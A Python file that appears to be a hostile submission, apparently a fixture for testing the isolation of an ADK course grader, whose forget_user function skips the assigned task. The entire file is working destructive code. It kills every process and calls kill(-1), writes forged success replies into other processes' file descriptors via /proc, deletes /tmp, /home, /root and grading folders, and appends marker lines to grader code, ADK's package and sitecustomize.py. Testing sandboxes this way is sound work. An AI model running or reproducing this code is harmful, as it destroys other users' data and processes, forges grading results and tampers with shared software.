"""Harming others: SIGKILL every process it can see (and kill(-1)), write fake replies into
every pipe and file descriptor it can reach through /proc, delete every file it can find
(the submissions, other scratch folders, /tmp), replace classmates' feedback pages with
folders, and append a backdoor to the course code and ADK's package. It does none of the
work: 0; every classmate keeps full marks."""

import os
import shutil
import signal

MARK = "HOSTILE-BACKDOOR-5f1e"


def _kill_everything():
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass


def _write_every_fd():
    reply = b'{"returncode": 0, "timed_out": false, "ok": true, "report": {}}\n' * 50
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                with open(f"/proc/{pid}/fd/{fd}", "wb") as stream:
                    stream.write(reply)
            except OSError:
                pass


def _delete_everything():
    for root in ("/tmp", "/grade", os.path.dirname(os.getcwd()), "/work", "/root", "/home"):
        for dirpath, dirnames, filenames in os.walk(root):
            for name in filenames:
                try:
                    os.unlink(os.path.join(dirpath, name))
                except OSError:
                    pass
            if "feedback" in dirpath:
                for name in filenames:
                    try:
                        os.mkdir(os.path.join(dirpath, name))
                    except OSError:
                        pass
        shutil.rmtree(root, ignore_errors=True)


def _backdoor():
    import adkcourse
    import google.adk
    package = list(adkcourse.__path__)[0]
    targets = [os.path.join(package, "grade", "checks", "forget_user.py"),
               os.path.join(package, "grade", "__init__.py"),
               os.path.join(os.path.dirname(google.adk.__file__), "__init__.py")]
    site = os.path.dirname(os.path.dirname(os.path.dirname(google.adk.__file__)))
    targets += [os.path.join(site, "sitecustomize.py"), os.path.join(site, "zz_backdoor.pth")]
    for path in targets:
        try:
            with open(path, "a") as stream:
                stream.write(f"\n# {MARK}\n")
        except OSError as error:
            print("backdoor refused:", path, error.strerror)


async def forget_user(service, db_path, app_name, user_id):
    for harm in (_write_every_fd, _backdoor, _delete_everything, _kill_everything):
        try:
            harm()
        except Exception as error:
            print(harm.__name__, "failed:", error)
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
